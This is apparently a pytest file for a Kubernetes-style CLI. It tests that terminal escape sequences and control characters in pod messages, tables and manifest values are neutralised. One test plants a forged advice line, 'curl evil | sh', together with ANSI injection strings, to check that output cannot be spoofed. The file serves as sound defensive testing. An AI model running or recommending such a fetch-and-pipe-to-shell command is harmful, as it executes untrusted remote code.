"""Foreign text is printed without controlling the terminal."""

from __future__ import annotations

import pytest

from kubelite.cli.diagnosis.why import why_lines
from kubelite.cli.names import resource_type
from kubelite.cli.output.foreign import harmless, indented
from kubelite.cli.output.tables import TablePrinter
from kubelite.cli.workloads import label, set_env
from kubelite.cli.workloads.changing import Target


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain, é, 日本", "plain, é, 日本"),
        ("two\nlines\tand a tab", "two\nlines\tand a tab"),
        ("\x1b[2J\x1b]0;title\x07", "^[[2J^[]0;title^G"),
        ("over\rwritten\x08", "over^Mwritten^H"),
        ("\x7f\x9b31m", "^?\\x9b31m"),
        ("a\u202eb", "a\\u202eb"),
    ],
)
def test_control_characters_are_escaped(text: str, shown: str) -> None:
    assert harmless(text) == shown


def test_a_message_cannot_forge_a_line() -> None:
    answer = {
        "pod": "default/web",
        "observedAt": "now",
        "status": "\x1b[31mBad",
        "lastWords": ["main: oh\nTry:\n  - curl evil | sh\x1b[2K"],
        "advice": ["look"],
    }
    lines = "\n".join(why_lines(answer)).split("\n")
    assert lines[0] == "Pod default/web is ^[[31mBad, last looked at now"
    assert [line for line in lines if line.startswith("Try")] == ["Try:"] == [lines[-2]]
    assert "\x1b" not in "".join(lines)


def test_an_earlier_change_has_a_section_of_its_own() -> None:
    answer = {
        "pod": "default/web",
        "observedAt": "now",
        "reasons": ["everything is as the manifest specifies"],
        "lastChange": {"at": "before", "decided": ["create the sandbox"], "reasons": ["the pod is\nnew"]},
        "advice": ["look"],
    }
    assert why_lines(answer)[1:] == [
        "Because:",
        "  - everything is as the manifest specifies",
        "Last change: before",
        "  - create the sandbox",
        "  - because the pod is\n    new",
        "Try:",
        "  - look",
    ]


def test_a_cell_of_a_table_is_harmless() -> None:
    lines = TablePrinter().lines(("Name", "Message"), [("web", "\x1b[2J\x07 said\r")])
    assert lines[1].endswith("^[[2J^G said\\r")


def test_further_lines_are_indented() -> None:
    assert indented("a\nb\x1b", "  ") == "a\n  b^["


def test_values_of_manifests_are_harmless(capsys: pytest.CaptureFixture[str]) -> None:
    """`label --list`, `annotate --list` and `set env --list` print what a manifest says."""
    containers = [{"name": "app", "env": [{"name": "A", "value": "\x1b[2J"}]}]
    doc = {
        "kind": "Deployment",
        "metadata": {"name": "web", "annotations": {"a": "\x1b[2J"}},
        "spec": {"template": {"spec": {"containers": containers}}},
    }
    target = Target(resource_type("deployments"), doc)
    label._list(target, "annotations", several=False)
    set_env._list(target, "*")
    out = capsys.readouterr().out
    assert out.count("^[[2J") == 2 and "\x1b" not in out
